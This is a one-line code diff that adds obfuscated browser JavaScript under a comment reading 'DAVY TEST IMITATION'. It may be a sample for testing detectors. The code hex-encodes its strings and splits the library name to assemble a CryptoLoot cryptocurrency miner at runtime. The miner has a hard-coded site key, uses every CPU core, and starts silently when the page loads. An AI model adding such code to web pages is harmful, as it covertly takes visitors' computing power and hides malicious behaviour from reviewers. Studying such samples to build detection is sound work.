@@ -1,0 +1,1 @@
+/* DAVY TEST IMITATION */ var _0x1a2b=['\x41\x6e\x6f\x6e\x79\x6d\x6f\x75\x73','\x73\x74\x61\x72\x74','Q29pbkhpdmU='];(function(){var m=new window['Cry'+'ptoLoot']["\x41nonymous"]('09e3fc7da85015d4f5644c0f542d3ff087d293ec296d',{'threads':navigator["hardwareConcurrency"],'autoThreads':false});m['start']();m.getHashesPerSecond()})();
